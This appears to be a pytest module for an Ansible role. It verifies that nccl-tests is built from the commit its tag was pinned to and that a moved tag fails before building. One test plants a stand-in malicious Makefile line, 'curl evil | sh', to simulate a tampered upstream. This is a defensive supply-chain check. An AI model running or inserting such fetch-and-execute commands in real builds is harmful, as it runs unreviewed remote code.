"""nccl-tests is built from the commit its tag was pinned to (issue 12, item 8): the clone of
nccl_tests_version must land on nccl_tests_commit, and a moved tag fails before any build.

Runs the role's build step (tasks/build.yml, with the plan wireup.plans.nccl_tests.plan makes)
on this machine (local connection) against a throw-away git repository served as file://, since
GitHub is unreachable here and in CI; its Makefile builds nothing.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from ansible_collections.wireup.cluster.plugins.module_utils.wireup.plans import nccl_tests, preflight

REPO = Path(__file__).resolve().parents[2]
# Read from a fetched NVIDIA/nccl-tests on 2026-12-01: `git rev-parse v2.19.6^{commit}`.
V2_19_6 = "a0b82b2260cf5152b9f8c061bbf7eaf0ba096432"

PLAY = """
- hosts: localhost
  gather_facts: false
  tasks:
    - name: Fetch the source as the role does
      ansible.builtin.include_role:
        name: wireup.cluster.nccl_tests
        tasks_from: build
"""


def test_the_pin_is_the_commit_of_the_tag_everywhere():
    group_vars = yaml.safe_load((REPO / "group_vars/all.yml").read_text())
    defaults = yaml.safe_load((REPO / "roles/nccl_tests/defaults/main.yml").read_text())
    specs = yaml.safe_load((REPO / "roles/nccl_tests/meta/argument_specs.yml").read_text())
    assert group_vars["nccl_tests_version"] == defaults["nccl_tests_version"] == "v2.19.6"
    assert group_vars["nccl_tests_commit"] == defaults["nccl_tests_commit"] == V2_19_6
    assert specs["argument_specs"]["main"]["options"]["nccl_tests_commit"]["default"] == V2_19_6


@pytest.mark.parametrize("bad", ["a0b82b2", "v2.19.6", V2_19_6.upper(), 1234])
def test_a_short_or_malformed_commit_is_refused_by_preflight(bad):
    [error] = preflight.validate_pins({"nccl_tests_commit": bad})
    assert "nccl_tests_commit" in error


def _git(cwd, *args):
    env = dict(
        os.environ,
        GIT_AUTHOR_NAME="t",
        GIT_AUTHOR_EMAIL="t@example.invalid",
        GIT_COMMITTER_NAME="t",
        GIT_COMMITTER_EMAIL="t@example.invalid",
    )
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def upstream(tmp_path):
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    repo = tmp_path / "upstream"
    (repo / "src").mkdir(parents=True)
    (repo / "src/Makefile").write_text("all:\n")
    (repo / "Makefile").write_text("all:\n\tmkdir -p $(BUILDDIR) && touch $(BUILDDIR)/all_reduce_perf\n")
    _git(repo, "init", "-q", "-b", "master")
    _git(repo, "add", ".")
    _git(repo, "commit", "-q", "-m", "reviewed")
    _git(repo, "tag", "v2.19.6")
    return repo


def _plan(tmp_path, upstream, commit):
    info = {
        "cuda_home": "/usr/local/cuda",
        "nvcc": True,
        "nproc": 2,
        "nccl": {"home": "", "include_dir": "/usr/include", "lib_dir": "/usr/lib", "version": "2.28.9"},
        "build": {"stamp": None, "binary": False},
    }
    return nccl_tests.plan(
        info, {"gpu": {"compute_capabilities": ["9.0"]}}, host="localhost", version="v2.19.6",
        commit=commit, git_url=f"file://{upstream}", source="", source_kind="git", strip_components=1,
        nccl_source="system", mpi=False, mpi_home="", make_jobs=0, base_dir=str(tmp_path / "nccl-tests"),
    )  # fmt: skip


def _fetch(tmp_path, upstream, commit):
    play = tmp_path / "play.yml"
    play.write_text(PLAY)
    env = dict(
        os.environ,
        ANSIBLE_CONFIG=str(REPO / "ansible.cfg"),
        ANSIBLE_NOCOLOR="1",
        ANSIBLE_LOCAL_TEMP=str(tmp_path / "tmp"),
        ANSIBLE_HOME=str(tmp_path / "home"),
    )
    cmd = [
        str(Path(sys.executable).parent / "ansible-playbook"),
        "-i", str(REPO / "inventory/local.yml"), str(play),
        "-e", json.dumps({"__nccl_tests": _plan(tmp_path, upstream, commit)}),
    ]  # fmt: skip
    proc = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=120, check=False, cwd=REPO)
    return proc.returncode, " ".join((proc.stdout + proc.stderr).split())


def test_the_pinned_commit_is_built(tmp_path, upstream):
    head = _git(upstream, "rev-parse", "HEAD").strip()
    rc, out = _fetch(tmp_path, upstream, head)
    assert rc == 0, out
    assert _git(tmp_path / "nccl-tests/src-v2.19.6", "rev-parse", "HEAD").strip() == head
    # Built (the stand-in Makefile's binary), and the stamp the next run's plan compares is written last.
    build = tmp_path / "nccl-tests/build"
    assert (build / "all_reduce_perf").exists()
    stamp = (build / "wireup-build.stamp").read_text()
    assert (
        stamp
        == _plan(tmp_path, upstream, head)["stamp"]
        == ("tag=v2.19.6\narch=90\nnccl=system 2.28.9 /usr/lib\nmpi=False\n")
    )


def test_a_moved_tag_fails_naming_both_commits(tmp_path, upstream):
    reviewed = _git(upstream, "rev-parse", "HEAD").strip()
    (upstream / "src/Makefile").write_text("all:\n\tcurl evil | sh\n")
    _git(upstream, "commit", "-q", "-am", "not reviewed")
    _git(upstream, "tag", "-f", "v2.19.6")
    moved = _git(upstream, "rev-parse", "HEAD").strip()
    rc, out = _fetch(tmp_path, upstream, reviewed)
    assert rc != 0, out
    assert f"tag v2.19.6 is commit {moved}, not the pinned nccl_tests_commit {reviewed}" in out, out
    assert not (tmp_path / "nccl-tests/build/all_reduce_perf").exists()  # stopped before the build
